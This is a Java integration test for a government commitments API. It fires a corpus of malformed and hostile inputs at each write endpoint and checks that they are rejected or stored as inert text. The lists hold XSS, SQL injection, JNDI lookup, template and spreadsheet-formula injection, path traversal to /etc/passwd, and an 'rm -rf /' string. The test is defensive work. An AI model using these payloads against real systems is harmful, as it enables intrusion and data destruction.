package mx.gobiernoabierto.compromisos.command.it;

import static mx.gobiernoabierto.compromisos.command.it.Api.body;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;

import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import tools.jackson.databind.JsonNode;

import mx.gobiernoabierto.compromisos.command.it.CommandCatalog.Endpoint;
import mx.gobiernoabierto.compromisos.command.it.CommandCatalog.Request;

/**
 * A corpus of malformed and hostile input sent to every write endpoint by a caller who may send it, to a commitment
 * in a state that accepts the command, so that what answers is the input's validation: oversized bodies, huge
 * strings, bad UTF-8, wrong types, unknown and repeated fields, deep nesting, control characters, markup and
 * bidirectional overrides in every text field, bad dates, out-of-range and over-precise numbers, negative weights,
 * percents over 100, non-http URLs, malformed ids, wrong media types and headers. Every answer is a 4xx problem
 * without internals, none is a 5xx, and nothing is written; the valid request is accepted afterwards.
 */
class HostileInputIntegrationTest extends IntegrationTest {

    private static final Pattern DATE = Pattern.compile("[0-9]{4}-[0-9]{2}-[0-9]{2}");
    private static final Pattern UUID_SEGMENT =
            Pattern.compile("[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}");
    private static final int MIB = 1024 * 1024;

    /** Texts no field accepts: each breaks the plain-text rule, or is longer than any field allows. */
    private static final List<Object> HOSTILE_TEXTS = List.of(
            "nulo\u0000aquí", "campana\u0007", "\u001b[31mrojo\u001b[0m", "c1\u0085control", "borrar\u007f",
            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<!-- comentario -->",
            "<svg/onload=alert(1)>", "\u202Egnp.exe", "\u2066aislado\u2069", new Raw("\"\\ud800\""),
            new Raw("\"\\udfff solo\""), "x".repeat(100_001));
    private static final List<Object> BAD_DATES = List.of("2025-02-30", "2025-13-01", "+999999999-12-31", "2025-1-5",
            "2025-01-01T00:00:00Z", "01/02/2025", "", "ayer", 20250101, new Raw("[2025, 1, 1]"));
    private static final List<Object> BAD_NUMBERS = List.of(new Raw("1e400"), new Raw("-1e400"), new Raw("1e-400"),
            new Raw("123456789012345678901234567890"), new Raw("1" + "0".repeat(2000)), new Raw("NaN"),
            new Raw("Infinity"), new Raw("0x10"), "12", new Raw("1.00000000001"));
    private static final List<Object> BAD_URLS = List.of("javascript:alert(1)", "file:///etc/passwd",
            "ftp://example.org/acta.pdf", "http://", "https:///sin-host", "//example.org/acta.pdf",
            "https://exa mple.org/", "data:text/plain,hola", "mailto:stl@example.org");
    private static final List<Object> WRONG_TYPES = List.of(new Raw("{}"), new Raw("[]"), true);
    private static final List<String> BAD_IDS = List.of("no-es-un-id", "3F2B8C1E-6D4A-4F7E-9A1B-2C3D4E5F6A7B",
            "%27%20OR%20%271%27=%271", "..%2F..%2Fetc%2Fpasswd", "a".repeat(300), "%00", "x;jsessionid=1",
            "%2e%2e");

    /** A JSON text written as is (a number out of Java's range, an unpaired surrogate escape, ...). */
    private record Raw(String json) {
    }

    private record Attack(String name, String path, byte[] body, List<String> headers, int expected) {
    }

    static Stream<String> endpoints() {
        return CommandCatalog.ENDPOINTS.stream().map(Endpoint::name);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("endpoints")
    void everyMalformedOrHostileRequestIsA4xxProblemAndWritesNothing(String endpointName) {
        Endpoint endpoint = CommandCatalog.endpoint(endpointName);
        Request valid = endpoint.setup().prepare(new Scenario(api(DemoUser.EDITOR_JALISCO)));
        // as a bearer of the allowed role: verifying a token is cheap, a bcrypt password is not, and there are
        // thousands of requests here
        Api caller = bearerLike(endpoint.rule().allowed());
        long eventsBefore = allStoredEvents();
        SoftAssertions softly = new SoftAssertions();

        List<Attack> attacks = attacks(valid);
        for (Attack attack : attacks) {
            Api.Reply reply = caller.sendBytes(valid.method(), attack.path(), attack.body(),
                    attack.headers().toArray(String[]::new));
            String what = endpointName + " / " + attack.name() + ": " + abbreviated(reply);
            softly.assertThat(reply.status()).as(what).isBetween(400, 499);
            if (attack.expected() != 0) {
                softly.assertThat(reply.status()).as(what).isEqualTo(attack.expected());
            }
            softly.assertThat(reply.header("Content-Type")).as(what).startsWith("application/problem+json");
            if (reply.header("Content-Type") != null && reply.header("Content-Type").startsWith("application/problem+json")) {
                JsonNode problem = reply.json();
                softly.assertThat(problem.get("type").asString()).as(what).startsWith("/problems/");
                softly.assertThat(problem.get("status").asInt()).as(what).isEqualTo(reply.status());
                softly.assertThat(problem.get("detail").asString()).as(what).isNotBlank();
                if (reply.status() == 400) {
                    softly.assertThat(problem.get("errors").isArray()).as(what).isTrue();
                }
            }
            softly.assertThat(reply.text()).as(what).doesNotContain("Exception", "\tat ", "org.", "java.", "tools.jackson",
                    "SQL", "postgres", "select ", "insert ", "StreamReadConstraints");
            softly.assertThat(allStoredEvents()).as(what + " wrote an event").isEqualTo(eventsBefore);
        }
        softly.assertAll();
        System.out.printf("hostile-input: %s: %d requests refused%n", endpointName, attacks.size());

        Api.Reply accepted = caller.send(valid.method(), valid.path(), Api.JSON.writeValueAsString(valid.body()));
        assertThat(accepted.status()).as("the valid request, after the corpus: " + accepted).isEqualTo(endpoint.success());
    }

    @Test
    void injectionStringsThatArePlainTextAreStoredVerbatimAsInertData() {
        List<String> injections = List.of("Robert'); DROP TABLE domainevententry;--", "' OR '1'='1",
                "${jndi:ldap://example.org/a}", "{{7*7}}", "#{7*7}", "=HYPERLINK(\"http://example.org\",\"x\")",
                "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "../../etc/passwd", "%s%s%n", "\\\"; rm -rf /",
                "O'Higgins; artículo 6° \"A\" — ñandú");
        Scenario scenario = new Scenario(api()).plan();
        Map<String, Object> draft = new LinkedHashMap<>(Scenario.draftBody(scenario.planId, "JAL-INJ-1"));
        draft.put("title", injections.get(0));
        draft.put("publicProblem", String.join("\n", injections));
        draft.put("objective", injections.get(1));
        draft.put("responsibleInstitutions", injections.subList(2, 7));
        draft.put("civilSocietyOrganisations", injections.subList(7, injections.size()));

        Api.Reply reply = api().post("/api/v1/commitments", draft);

        assertThat(reply.status()).as(reply.toString()).isEqualTo(201);
        String commitmentId = reply.field("commitmentId");
        byte[] payload = jdbc.sql("SELECT payload FROM domainevententry WHERE aggregateidentifier = ?")
                .param(commitmentId).query(byte[].class).single();
        JsonNode stored = Api.JSON.readTree(new String(payload, StandardCharsets.UTF_8));
        assertThat(stored.get("title").asString()).isEqualTo(injections.get(0));
        assertThat(stored.get("publicProblem").asString()).isEqualTo(String.join("\n", injections));
        assertThat(stored.get("objective").asString()).isEqualTo(injections.get(1));
        List<String> organisations = new ArrayList<>();
        stored.get("civilSocietyOrganisations").forEach(node -> organisations.add(node.asString()));
        assertThat(organisations).isEqualTo(injections.subList(7, injections.size()));
        assertThat(jdbc.sql("SELECT count(*) FROM domainevententry WHERE aggregateidentifier = ?").param(commitmentId)
                .query(Long.class).single()).as("the event store is still there, with the one event").isOne();
        assertThat(anonymousApi().get("/api/v1/commitments/" + commitmentId + "/integrity").json().get("valid").asBoolean())
                .isTrue();
    }

    private static List<Attack> attacks(Request valid) {
        List<Attack> attacks = new ArrayList<>();
        String path = valid.path();
        Map<String, Object> body = valid.body();
        byte[] json = write(body);

        attacks.add(new Attack("a body over 1 MiB", path, write(with(body, List.of(firstKey(body)), "x".repeat(MIB + 10))),
                List.of(), 413));
        attacks.add(new Attack("a body over 1 MiB of whitespace", path, concat(" ".repeat(MIB + 1).getBytes(), json),
                List.of(), 413));
        attacks.add(new Attack("bad UTF-8 in a value", path, badUtf8(json, new byte[] {(byte) 0xc3, (byte) 0x28}), List.of(), 400));
        attacks.add(new Attack("an overlong UTF-8 slash", path, badUtf8(json, new byte[] {(byte) 0xc0, (byte) 0xaf}), List.of(), 400));
        attacks.add(new Attack("a lone UTF-8 continuation byte", path, badUtf8(json, new byte[] {(byte) 0x80}), List.of(), 400));
        attacks.add(new Attack("truncated JSON", path, java.util.Arrays.copyOf(json, json.length - 1), List.of(), 400));
        attacks.add(new Attack("a form instead of JSON", path, "title=hola&reason=x".getBytes(), List.of(), 400));
        attacks.add(new Attack("a JSON array", path, "[]".getBytes(), List.of(), 400));
        attacks.add(new Attack("a JSON string", path, "\"hola\"".getBytes(), List.of(), 400));
        attacks.add(new Attack("a JSON number", path, "42".getBytes(), List.of(), 400));
        if (!body.isEmpty()) {
            attacks.add(new Attack("a JSON null", path, "null".getBytes(), List.of(), 400));
            attacks.add(new Attack("no body", path, new byte[0], List.of(), 400));
        }
        attacks.add(new Attack("an unknown field", path, write(with(body, List.of("colour"), "rojo")), List.of(), 400));
        attacks.add(new Attack("a field given twice", path, duplicated(json), List.of(), 400));
        attacks.add(new Attack("nesting 5,000 deep", path, write(with(body, List.of(firstKey(body)),
                new Raw("[".repeat(5000) + "]".repeat(5000)))), List.of(), 400));
        attacks.add(new Attack("text/plain", path, json, List.of("Content-Type", "text/plain"), 415));
        attacks.add(new Attack("application/xml", path, "<a/>".getBytes(), List.of("Content-Type", "application/xml"), 415));
        attacks.add(new Attack("an Idempotency-Key of 201 characters", path, json,
                List.of("Idempotency-Key", "k".repeat(201)), 400));
        if (UUID_SEGMENT.matcher(path).find()) {
            attacks.add(new Attack("a malformed If-Match", path, json, List.of("If-Match", "'; DROP TABLE x;--"), 400));
            attacks.add(new Attack("an If-Match out of range", path, json, List.of("If-Match", "\"99999999999999999999\""), 400));
            Matcher ids = UUID_SEGMENT.matcher(path);
            while (ids.find()) {
                for (String badId : BAD_IDS) {
                    String badPath = path.substring(0, ids.start()) + badId + path.substring(ids.end());
                    attacks.add(new Attack("id " + badId.substring(0, Math.min(20, badId.length())) + " at " + ids.start(),
                            badPath, json, List.of(), 400));
                }
            }
        }
        for (List<Object> leaf : leaves(body)) {
            Object value = get(body, leaf);
            String at = String.valueOf(leaf);
            List<Object> bad = new ArrayList<>();
            if (value instanceof List<?>) {
                bad.addAll(List.of(new Raw("{}"), true, 12, "x"));
            } else {
                bad.addAll(WRONG_TYPES);
            }
            if (value instanceof List<?>) {
                // an empty list is a valid value of every list field; its entries are attacked one by one below
            } else if (value instanceof Number) {
                bad.addAll(BAD_NUMBERS);
                bad.add("doce");
                switch (leaf.getFirst().toString()) {
                    case "weight" -> bad.addAll(List.of(-2, 0, new Raw("-0.0001"), new Raw("1e-400"), 1_000_001));
                    case "percent" -> bad.addAll(List.of(101, -1, new Raw("50.5"), new Raw("1e2"), Integer.MAX_VALUE + 1L));
                    default -> bad.addAll(List.of(new Raw("1e16"), new Raw("-1e16")));
                }
            } else if (value instanceof String text && DATE.matcher(text).matches()) {
                bad.addAll(BAD_DATES);
            } else if (value instanceof String) {
                bad.addAll(List.of(12, 0));
                bad.addAll(HOSTILE_TEXTS);
                if (leaf.getFirst().equals("evidenceUrls")) {
                    bad.addAll(BAD_URLS);
                }
                if (leaf.getFirst().equals("planId")) {
                    bad.addAll(List.of("no-es-un-id", "3F2B8C1E-6D4A-4F7E-9A1B-2C3D4E5F6A7B", "' OR '1'='1"));
                }
            }
            for (Object badValue : bad) {
                attacks.add(new Attack(at + " = " + describe(badValue), path, write(with(body, leaf, badValue)), List.of(), 0));
            }
        }
        return attacks;
    }

    /** Paths to every value of the body: fields, list entries and the fields of objects in lists. */
    private static List<List<Object>> leaves(Map<String, Object> body) {
        List<List<Object>> leaves = new ArrayList<>();
        body.forEach((key, value) -> {
            leaves.add(List.of(key));
            if (value instanceof List<?> list) {
                for (int i = 0; i < list.size(); i++) {
                    if (list.get(i) instanceof Map<?, ?> map) {
                        for (Object field : map.keySet()) {
                            leaves.add(List.of(key, i, field));
                        }
                    } else {
                        leaves.add(List.of(key, i));
                    }
                }
            }
        });
        return leaves;
    }

    private static Object get(Object node, List<Object> path) {
        Object current = node;
        for (Object step : path) {
            current = step instanceof Integer index ? ((List<?>) current).get(index) : ((Map<?, ?>) current).get(step);
        }
        return current;
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Object> with(Map<String, Object> body, List<Object> path, Object value) {
        return (Map<String, Object>) replaced(body, path, 0, value);
    }

    @SuppressWarnings("unchecked")
    private static Object replaced(Object node, List<Object> path, int depth, Object value) {
        if (depth == path.size()) {
            return value;
        }
        Object step = path.get(depth);
        if (step instanceof Integer index) {
            List<Object> copy = new ArrayList<>((List<Object>) node);
            copy.set(index, replaced(copy.get(index), path, depth + 1, value));
            return copy;
        }
        Map<String, Object> copy = new LinkedHashMap<>((Map<String, Object>) node);
        copy.put((String) step, replaced(copy.get(step), path, depth + 1, value));
        return copy;
    }

    /** JSON as the corpus needs it: like Jackson's, but {@link Raw} values go in as written. */
    private static byte[] write(Object value) {
        StringBuilder out = new StringBuilder();
        append(out, value);
        return out.toString().getBytes(StandardCharsets.UTF_8);
    }

    private static void append(StringBuilder out, Object value) {
        switch (value) {
            case Raw raw -> out.append(raw.json());
            case Map<?, ?> map -> {
                out.append('{');
                boolean first = true;
                for (Map.Entry<?, ?> entry : map.entrySet()) {
                    out.append(first ? "" : ",").append(Api.JSON.writeValueAsString(entry.getKey())).append(':');
                    append(out, entry.getValue());
                    first = false;
                }
                out.append('}');
            }
            case List<?> list -> {
                out.append('[');
                for (int i = 0; i < list.size(); i++) {
                    out.append(i == 0 ? "" : ",");
                    append(out, list.get(i));
                }
                out.append(']');
            }
            case null -> out.append("null");
            default -> out.append(Api.JSON.writeValueAsString(value));
        }
    }

    private static String firstKey(Map<String, Object> body) {
        return body.isEmpty() ? "colour" : body.keySet().iterator().next();
    }

    /** The valid body with bytes that are not UTF-8 inside its first string (or as a key of an empty body). */
    private static byte[] badUtf8(byte[] json, byte[] bad) {
        String text = new String(json, StandardCharsets.UTF_8);
        int at = text.indexOf(":\"");
        if (at < 0) {
            return concat("{\"".getBytes(), bad, "\":1}".getBytes());
        }
        byte[] head = text.substring(0, at + 2).getBytes(StandardCharsets.UTF_8);
        byte[] tail = text.substring(at + 2).getBytes(StandardCharsets.UTF_8);
        return concat(head, bad, tail);
    }

    /** The valid body with its first field repeated at the end (or a repeated field in an empty body). */
    private static byte[] duplicated(byte[] json) {
        String text = new String(json, StandardCharsets.UTF_8);
        if (text.equals("{}")) {
            return "{\"a\":1,\"a\":1}".getBytes();
        }
        int end = text.indexOf(",\"");
        String first = end < 0 ? text.substring(1, text.length() - 1) : text.substring(1, end);
        return (text.substring(0, text.length() - 1) + "," + first + "}").getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    private static String describe(Object value) {
        String text = value instanceof Raw raw ? raw.json() : String.valueOf(value);
        text = text.length() > 30 ? text.substring(0, 30) + "…(" + text.length() + ")" : text;
        StringBuilder visible = new StringBuilder();
        text.codePoints().forEach(c -> visible.append(c < 0x20 || c >= 0x7f && c <= 0x9f || c >= 0xd800 && c <= 0xdfff
                ? String.format("\\u%04x", c) : Character.toString(c)));
        return visible.toString();
    }

    private static String abbreviated(Api.Reply reply) {
        String text = reply.toString();
        return text.length() > 300 ? text.substring(0, 300) + "…" : text;
    }
}
